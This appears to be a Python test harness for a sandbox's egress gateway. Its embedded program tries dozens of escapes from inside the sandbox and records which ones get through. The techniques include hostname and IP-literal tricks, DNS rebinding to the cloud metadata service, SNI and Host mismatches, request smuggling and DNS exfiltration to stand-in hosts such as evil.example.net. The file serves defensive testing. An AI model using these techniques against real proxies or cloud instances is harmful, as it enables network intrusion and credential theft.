"""What a hostile sandbox tries, from inside: each in Python of its own, as a guest without a network tool has it.

Run in a sandbox as ``python3 - ATTEMPTS`` with this text on stdin; it prints one JSON object: attempt -> what came back,
where anything that begins with ``PASSED`` got through.
"""

PROGRAM = r'''
import concurrent.futures, json, os, socket, ssl, struct, sys
asked = json.loads(sys.argv[1])
proxy = (asked["proxy"], 3128)
secure, plain = asked["secure"], asked["plain"]
hostip = asked["hostip"]
T = 6

def attempt(call):
    try:
        found = call()
    except BaseException as error:
        return "refused: %s: %s" % (type(error).__name__, error)
    return found

def direct(address, port, family=socket.AF_INET):
    def go():
        with socket.socket(family) as sock:
            sock.settimeout(T)
            sock.connect((address, port))
            return "PASSED: connected to %s" % address
    return go

def through(request, follow=None):
    """Talk to the gateway; PASSED where the far server's words come back."""
    def go():
        with socket.create_connection(proxy, T) as sock:
            sock.settimeout(T + 4)
            sock.sendall(request.encode())
            data = b""
            if follow is not None:
                while b"\r\n\r\n" not in data:
                    part = sock.recv(4096)
                    if not part:
                        break
                    data += part
                if b" 200 " not in data.split(b"\r\n")[0]:
                    return "refused: " + data.split(b"\r\n")[0].decode()
                return follow(sock)
            while True:
                part = sock.recv(65536)
                if not part:
                    break
                data += part
            return ("PASSED: " if b"hello from" in data else "refused: ") + data[:300].decode("latin-1")
    return go

def get(url, host=None):
    host = host or url.split("/")[2]
    return through("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (url, host))

def raw(data):
    def follow(sock):
        sock.sendall(data)
        got = b""
        while True:
            part = sock.recv(4096)
            if not part:
                break
            got += part
        return ("refused: " if b" 403 " in got[:20] or not got else "PASSED: ") + got[:120].decode("latin-1")
    return follow

def shake(name):
    def follow(sock):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with context.wrap_socket(sock, server_hostname=name) as made:
            made.sendall(b"GET / HTTP/1.1\r\nHost: good.example.com\r\nConnection: close\r\n\r\n")
            return "PASSED: " + repr(made.recv(100))
    return follow

def tunnel(target, follow):
    return through("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target), follow)

def dns(address):
    def go():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(2)
            name = b"".join(bytes([len(part)]) + part for part in (b"stolen", b"evil", b"example", b"net")) + b"\0"
            sock.sendto(b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1", (address, 53))
            data = sock.recv(512)
            if data[3] & 15 == 0 and data[6:8] != b"\0\0":
                return "PASSED: an answer of %d bytes" % len(data)
            return "refused: code %d" % (data[3] & 15)
    return go

def named():
    return "PASSED: %s" % (socket.getaddrinfo("good.example.com", 80),)

def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300):
        return "PASSED: a packet socket"

def icmp():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "PASSED: a raw socket"

def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(2)
        sock.sendto(b"\x08\0\xf7\xff\0\0\0\0", (hostip, 0))
        return "PASSED: an echo of %d bytes" % len(sock.recv(100))

def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(b"hello", (hostip, asked["udp"]))
        return "PASSED: " + sock.recv(100).decode()

def neighbour():
    return direct(asked["neighbour"], 3128)()

def abstract():
    found = []
    for line in open("/proc/net/unix"):
        name = line.split()[-1]
        if name.startswith("@"):
            found.append(name)
    return "PASSED: %s" % found if found else "refused: no socket of the host is seen"

G = "good.example.com"
attempts = {
    "control": tunnel("%s:%d" % (G, secure), shake(G)),
    "direct to the server": direct(hostip, secure),
    "direct to the plain server": direct(hostip, plain),
    "direct to a public address": direct("1.1.1.1", 443),
    "direct over IPv6": direct("2606:4700::1111", 443, socket.AF_INET6),
    "the host's gateway address": direct(asked["gateway"], plain),
    "port 22": tunnel(G + ":22", raw(b"SSH-2.0-x\r\n")),
    "a host that is not allowed": get("http://evil.example.net:%d/" % plain),
    "a host that is not allowed, over TLS": tunnel("evil.example.net:%d" % secure, shake("evil.example.net")),
    "suffix trick": get("http://good.example.com.evil.example.net:%d/" % plain),
    "prefix trick": get("http://evilgood.example.com:%d/" % plain),
    "apex of a wildcard": get("http://wild.example.org:%d/" % plain),
    "IP literal": get("http://%s:%d/" % (asked["unnamed"], plain)),
    "IP literal, decimal": get("http://%d:%d/" % (struct.unpack(">I", socket.inet_aton(hostip))[0], plain)),
    "IP literal, hex": get("http://0x%08x:%d/" % (struct.unpack(">I", socket.inet_aton(hostip))[0], plain)),
    "IP literal, IPv6": get("http://[::1]:%d/" % plain),
    "IP literal, mapped": get("http://[::ffff:%s]:%d/" % (hostip, plain)),
    "rebinding to 127/8": get("http://r127.example.com:%d/" % plain),
    "rebinding to the metadata service": get("http://r169.example.com/latest/meta-data/"),
    "rebinding to 172.16/12": get("http://r172.example.com:%d/" % plain),
    "rebinding to ::1": get("http://r6.example.com:%d/" % plain),
    "metadata service": get("http://169.254.169.254/latest/meta-data/"),
    "another SNI": tunnel("%s:%d" % (G, secure), shake("evil.example.net")),
    "no SNI": tunnel("%s:%d" % (G, secure), shake(None)),
    "raw bytes in a tunnel": tunnel("%s:%d" % (G, secure), raw(b"GET / HTTP/1.1\r\nHost: evil.example.net\r\n\r\n")),
    "another Host": get("http://%s:%d/" % (G, plain), "evil.example.net"),
    "smuggled second request": through("GET http://%s:%d/nothing HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: x\r\n\r\n" % (G, plain, G, plain)),
    "a neighbour's gateway": neighbour,
    "DNS to a public resolver": dns("1.1.1.1"),
    "DNS to the engine's resolver": dns("127.0.0.11"),
    "DNS by the C library": named,
    "a packet socket": packet,
    "a raw socket": icmp,
    "an echo request": ping,
    "UDP to the host": udp,
    "the host's abstract sockets": abstract,
}
with concurrent.futures.ThreadPoolExecutor(len(attempts)) as pool:  # most of them wait for an answer that never comes
    waiting = {name: pool.submit(attempt, call) for name, call in attempts.items()}
    print(json.dumps({name: one.result() for name, one in waiting.items()}))
'''

RECORDED = {
    "port 22": ("good.example.com", "not_allowed"),
    "a host that is not allowed": ("evil.example.net", "not_allowed"),
    "a host that is not allowed, over TLS": ("evil.example.net", "not_allowed"),
    "suffix trick": ("good.example.com.evil.example.net", "not_allowed"),
    "prefix trick": ("evilgood.example.com", "not_allowed"),
    "apex of a wildcard": ("wild.example.org", "not_allowed"),
    "IP literal, IPv6": ("::1", "not_allowed"),
    "rebinding to 127/8": ("r127.example.com", "not_global"),
    "rebinding to the metadata service": ("r169.example.com", "not_global"),
    "rebinding to 172.16/12": ("r172.example.com", "not_global"),
    "rebinding to ::1": ("r6.example.com", "not_global"),
    "metadata service": ("169.254.169.254", "not_allowed"),
    "another SNI": ("good.example.com", "sni_mismatch"),
    "no SNI": ("good.example.com", "no_sni"),
    "raw bytes in a tunnel": ("good.example.com", "raw"),
    "another Host": ("good.example.com", "host_mismatch"),
    "smuggled second request": ("good.example.com", "bad_request"),
}
"""What each attempt through the gateway leaves on record; the others do not reach it."""

REBINDING = {
    "r127.example.com": ("127.0.0.1",), "r169.example.com": ("169.254.169.254",),
    "r172.example.com": ("172.17.0.1",), "r6.example.com": ("::1",),
}  # fmt: skip
